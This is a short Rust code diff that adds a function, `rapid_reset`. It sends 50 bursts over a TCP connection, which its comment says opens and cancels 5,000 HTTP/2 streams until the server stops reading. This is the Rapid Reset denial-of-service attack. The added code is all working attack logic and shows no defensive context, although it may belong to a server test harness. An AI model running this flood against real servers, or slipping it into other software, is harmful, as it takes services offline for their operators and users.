@@ -66,3 +66,21 @@ pub fn rapid_reset_burst(batch: u32, block: &[u8]) -> Vec<u8> {
     }
     bytes
 }
+
+/// Sends 50 [`rapid_reset_burst`]s (5,000 streams opened and cancelled) until the server stops
+/// reading; returns how many streams were sent.
+pub async fn rapid_reset(stream: &mut tokio::net::TcpStream, block: &[u8]) -> u32 {
+    use tokio::io::AsyncWriteExt;
+    let mut sent = 0u32;
+    for batch in 0..50u32 {
+        if stream
+            .write_all(&rapid_reset_burst(batch, block))
+            .await
+            .is_err()
+        {
+            break;
+        }
+        sent += 100;
+    }
+    sent
+}
